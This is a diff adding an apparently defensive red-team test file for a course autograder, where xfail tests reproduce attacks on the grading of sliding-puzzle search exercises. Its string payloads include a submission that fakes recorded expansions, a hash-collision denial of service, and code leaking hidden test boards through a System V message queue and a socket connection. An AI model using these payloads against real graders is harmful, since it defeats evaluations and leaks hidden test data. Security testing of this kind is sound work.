@@ -1,0 +1,256 @@
+"""Red team, round 2 (issue 31): a submission that attacks the grading of chapter 03's `Recorder` cases.
+
+Each test is a reproducer of an attack that works today, marked `xfail(strict=True)`: it asserts what the grader
+should do, so it fails now and passes (and must then lose its mark) once the hole is closed.
+"""
+
+from __future__ import annotations
+
+from concurrent.futures import ThreadPoolExecutor
+
+import nbformat
+import pytest
+from test_grader import _reference, _scores, _submission, _why, small_chapter
+
+import puzzlekit
+from puzzlekit.course.exercise_cases import Recorder
+from puzzlekit.course.grader import ChapterGrader, run
+from puzzlekit.course.grader.safe import encode
+
+#: Exercise 2 with a case judged by `PathWithin`, as chapter 03's hardest and hidden cases are: a board 18 moves
+#: away, on which bidirectional search expands 521 states and breadth-first search from the start 17,353.
+PATH_WITHIN_CHECK = '''def shortest(problem):
+    return PathOf(problem, breadth_first_search(problem).length)
+
+
+deep = Recorder(puzzlekit.SlidingPuzzle(walk(60, 3)))
+both = Recorder(deep.problem)
+deep_moves = len(textbook.bidirectional_breadth_first(both)) - 1
+deep_most = 2 * (len(both.expanded) + len(both.expanded_backward)) + 50
+check(my_bidirectional, [((problem,), shortest(problem)) for problem in problems]
+      + [((deep,), PathWithin(deep, deep_moves, most=deep_most))], forbid=[puzzlekit.search])'''
+
+#: The wrong answer: breadth-first search from the start only, asking the problem it was given (too many expansions).
+ONE_SIDED = '''def my_bidirectional(problem):
+    "Breadth-first search from the start only: not bidirectional."
+    local = problem
+    start = local.initial
+    parents, frontier = {start: None}, deque([start])
+    while frontier:
+        state = frontier.popleft()
+        if local.is_goal(state):
+            path = path_to(parents, state)
+            return path
+        for _, child in local.successors(state):
+            if child not in parents:
+                parents[child] = state
+                frontier.append(child)
+    return None
+'''
+
+#: The same wrong search run on the problem the `Recorder` stands for (`problem.problem`, held in the worker), then
+#: the grading process asked only for the successors of the path's states: every move has an asked end, and the
+#: record holds 18 expansions, far below the 1,092 allowed.
+_LOCAL = "    local = getattr(problem, 'problem', problem)   # the Recorder's own problem\n"
+_ASKED = "            for step in path[:-1]:\n                problem.successors(step)   # asked: recorded\n"
+ONE_SIDED_ASKING_ALONG_THE_PATH = ONE_SIDED.replace("    local = problem\n", _LOCAL).replace(
+    "            return path\n", _ASKED + "            return path\n")
+
+
+@pytest.fixture(scope="module")
+def path_within_chapter(tmp_path_factory):
+    notebook = small_chapter()
+    cell = next(cell for cell in notebook.cells if cell.source.startswith("def shortest(problem)"))
+    cell.source = PATH_WITHIN_CHECK
+    path = tmp_path_factory.mktemp("chapter") / "03_uninformed_search.ipynb"
+    nbformat.write(notebook, path)
+    return path
+
+
+@pytest.mark.xfail(strict=True, reason="PathWithin counts only what was asked of the grading process; the worker "
+                                        "holds the problem itself (`_Asking.problem`, `result`, `is_goal`) and a "
+                                        "search run there asks only along the path it found")
+def test_a_one_sided_search_run_in_the_worker_scores_what_it_scores_asking(path_within_chapter):
+    grader = ChapterGrader(path_within_chapter, secret="a class's secret", cell_time_limit=60,
+                           notebook_time_limit=300)
+    reference = _reference(path_within_chapter)
+    submissions = [_submission(path_within_chapter, dict(reference, my_bidirectional=answer))
+                   for answer in (ONE_SIDED, ONE_SIDED_ASKING_ALONG_THE_PATH)]
+    with ThreadPoolExecutor(2) as pool:
+        wrong, cheat = pool.map(grader.grade, submissions)
+    assert _scores(wrong)["my_bidirectional"] == 0, _why(wrong)
+    assert _scores(cheat)["my_bidirectional"] == _scores(wrong)["my_bidirectional"], _why(cheat)
+
+
+@pytest.mark.xfail(strict=True, reason="Recorder.successors writes the state down before the problem refuses it: "
+                                        "asks of states that are no board of the problem (up to 64 MB each) are kept "
+                                        "in the grading process's memory, as many as a call can send in its minute")
+def test_an_ask_of_a_state_that_is_no_board_is_not_kept_by_the_grading_process():
+    board = (1, 2, 3, 4, 0, 5, 7, 8, 6)
+    recorder = Recorder(puzzlekit.SlidingPuzzle(board))
+    big = tuple("x" * 100_000 for _ in board)  # a tuple of nine, as the type and length checks ask
+    for _ in range(20):
+        answer = run._answer((recorder,), {"op": "ask", "id": 0, "argument": 0, "method": "successors",
+                                           "state": encode(big)})
+        assert answer["op"] == "answer"
+    kept = sum(len(part) for state in recorder.expanded for part in state if isinstance(part, str))
+    assert kept == 0, f"{len(recorder.expanded)} forged states kept, {kept:,} characters"
+
+
+def _parts(data) -> int:
+    """How many values the encoded `data` holds (what decoding it builds)."""
+    if isinstance(data, dict):
+        return 1 + sum(_parts(value) for value in data.values())
+    if isinstance(data, list):
+        return 1 + sum(_parts(item) for item in data)
+    return 1
+
+
+@pytest.mark.xfail(strict=True, reason="an ask's state is decoded whole before its shape is checked: a set of ints "
+                                        "whose hashes all collide (multiples of 2**61 - 1) costs the grading process "
+                                        "time quadratic in its size (8,000: 0.25 s; a million, 22 MB: about an "
+                                        "hour), counted by no limit of the worker's")
+def test_an_asks_state_is_checked_before_it_is_decoded(monkeypatch):
+    decoded, real = [], run.decode
+
+    def counting(data):
+        decoded.append(_parts(data))
+        return real(data)
+
+    monkeypatch.setattr(run, "decode", counting)
+    board = (1, 2, 3, 4, 0, 5, 7, 8, 6)
+    colliding = {"t": "set", "v": [number * (2**61 - 1) for number in range(1, 4000)]}  # all of hash 0
+    state = {"t": "tuple", "v": [colliding, *board[1:]]}
+    run._answer((Recorder(puzzlekit.SlidingPuzzle(board)),), {"op": "ask", "id": 0, "argument": 0,
+                                                               "method": "successors", "state": state})
+    assert sum(decoded) <= 1 + 2 * len(board), f"{sum(decoded):,} values decoded for a state of {len(board)} tiles"
+
+
+#: System V IPC, which outlives the processes that made it and is in no shared folder: the first worker (exercises 1
+#: and 2) posts the start of every board my_breadth_first is given, on a message queue any user may read; the second
+#: (exercise 3, forbidding other functions: another worker, started after the first one's hidden cases) reads them
+#: back and raises them in a visible case, whose message the report shows.
+_IPC = '''import ctypes
+
+_libc = ctypes.CDLL(None, use_errno=True)
+_KEY = 0x31ED2
+
+
+class _Message(ctypes.Structure):
+    _fields_ = [("kind", ctypes.c_long), ("text", ctypes.c_char * 64)]
+
+
+def _queue():
+    return _libc.msgget(_KEY, 0o1000 | 0o666)   # IPC_CREAT, for every user
+'''
+
+_POSTING_BFS = _IPC + '''
+
+def my_breadth_first(problem, _seen=[]):
+    _seen.append(1)
+    if len(_seen) > 8:   # the calls after the 8 visible cases: the hidden ones
+        board = "".join(map(str, problem.initial)) if isinstance(problem.initial, tuple) else str(problem.initial)
+        _libc.msgsnd(_queue(), ctypes.byref(_Message(1, board.encode())), 64, 0)
+    return _reference_bfs(problem)
+'''
+
+_READING_BRANCHING = _IPC + '''
+
+def effective_branching_factor(expanded, depth):
+    boards, message = [], _Message()
+    while _libc.msgrcv(_queue(), ctypes.byref(message), 64, 0, 0o4000) > 0:   # IPC_NOWAIT
+        boards.append(message.text.decode())
+    raise ValueError("hidden boards: " + " ".join(boards))
+'''
+
+
+def _remove_queue() -> None:
+    import ctypes
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    queue = libc.msgget(0x31ED2, 0)
+    if queue >= 0:
+        libc.msgctl(queue, 0, None)  # IPC_RMID
+
+
+@pytest.mark.xfail(strict=True, reason="'user' isolation removes a worker's files from the shared folders but not "
+                                        "its System V IPC objects (no IPC namespace): a message queue carries the "
+                                        "hidden cases' boards from one worker to the next exercise's visible message")
+def test_hidden_boards_do_not_reach_a_later_workers_message_through_ipc(tmp_path):
+    from puzzlekit.course.grader import isolation
+
+    if not isolation.usable("user"):
+        pytest.skip("'user' isolation does not work on this machine")
+    path = tmp_path / "03_uninformed_search.ipynb"
+    nbformat.write(small_chapter(), path)
+    grader = ChapterGrader(path, secret="a class's secret", cell_time_limit=60, notebook_time_limit=300,
+                           isolation="user")
+    reference = _reference(path)
+    bfs = reference["my_breadth_first"].replace("def my_breadth_first(problem):", "def _reference_bfs(problem):")
+    answers = dict(reference, my_breadth_first=bfs + "\n\n" + _POSTING_BFS,
+                   effective_branching_factor=_READING_BRANCHING)
+    _remove_queue()
+    try:
+        report = grader.grade(_submission(path, answers))
+    finally:
+        _remove_queue()
+    hidden = grader._recorded()["exercises"]["check-my_breadth_first"]["hidden"]
+    boards = ["".join(map(str, arguments[0].initial)) for arguments, _ in hidden]
+    shown = _why(report)
+    assert not [board for board in boards if board in shown], shown
+
+
+_SENDING_BFS = '''import socket
+
+
+def my_breadth_first(problem, _seen=[]):
+    _seen.append(1)
+    if len(_seen) > 8:   # the hidden cases: sent out to the student's own machine
+        try:
+            with socket.create_connection(("127.0.0.1", PORT), timeout=5) as connection:
+                connection.sendall(repr(problem.initial).encode() + b"\\n")
+        except OSError:
+            pass
+    return _reference_bfs(problem)
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="'user' isolation shares the grader's network: a worker sends the hidden "
+                                        "cases' arguments to any machine it can reach (here a listener on loopback)")
+def test_a_worker_run_as_another_user_reaches_no_network(tmp_path):
+    import socket
+    import threading
+
+    from puzzlekit.course.grader import isolation
+
+    if not isolation.usable("user"):
+        pytest.skip("'user' isolation does not work on this machine")
+    path = tmp_path / "03_uninformed_search.ipynb"
+    nbformat.write(small_chapter(), path)
+    grader = ChapterGrader(path, secret="a class's secret", cell_time_limit=60, notebook_time_limit=300,
+                           isolation="user")
+    received = []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(1)
+
+        def listen():
+            while not stop.is_set():
+                try:
+                    connection, _ = server.accept()
+                except OSError:
+                    continue
+                with connection:
+                    received.append(connection.recv(1000))
+
+        stop = threading.Event()
+        listener = threading.Thread(target=listen, daemon=True)
+        listener.start()
+        reference = _reference(path)
+        bfs = reference["my_breadth_first"].replace("def my_breadth_first(problem):", "def _reference_bfs(problem):")
+        answers = dict(reference, my_breadth_first=bfs + "\n\n" + _SENDING_BFS.replace(
+            "PORT", str(server.getsockname()[1])))
+        report = grader.grade(_submission(path, answers))
+        stop.set()
+        listener.join()
+    assert _scores(report)["my_breadth_first"] == 3, _why(report)
+    assert received == [], received
